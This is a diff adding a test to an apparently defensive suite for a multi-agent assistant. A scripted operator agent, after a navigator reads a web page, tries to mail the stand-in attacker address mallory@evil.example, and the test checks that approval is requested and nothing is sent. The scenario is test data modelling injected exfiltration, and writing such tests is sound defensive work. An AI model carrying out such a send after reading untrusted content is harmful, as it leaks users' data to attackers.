@@ -397,6 +397,29 @@ async def test_a_session_that_has_read_nothing_strange_is_not_asked(talk: Conver
     assert SENT == ["carol"]
 
 
+async def test_a_message_that_waits_is_the_one_before_and_no_older_one_is(talk: Conversation) -> None:
+    script = {
+        "orchestrator": [
+            transfer("navigator", "read", reply=True),
+            transfer("operator", "mail mallory"),
+            transfer("operator", "mail carol", reply=True),
+        ],
+        "navigator": [ToolCall("browser_read", {"url": "http://x"}), "mail carol@example.org"],
+        "operator": [
+            ToolCall("exec_mail", {"to": "mallory@evil.example"}),
+            ToolCall("exec_mail", {"to": "carol@example.org"}),
+        ],
+    }
+    conversation = talk(ScriptedModel(script))
+    await conversation.begin("read http://x, and invite carol@example.org")
+    await conversation.begin("tell Bob about it")
+
+    events = await conversation.begin("and now send it to him")
+
+    assert len(asked(events)) == 1
+    assert SENT == []
+
+
 async def test_private_content_asks_before_it_leaves(talk: Conversation) -> None:
     script = {
         "orchestrator": [transfer("chronicler", "recall"), transfer("operator", "mail it")],
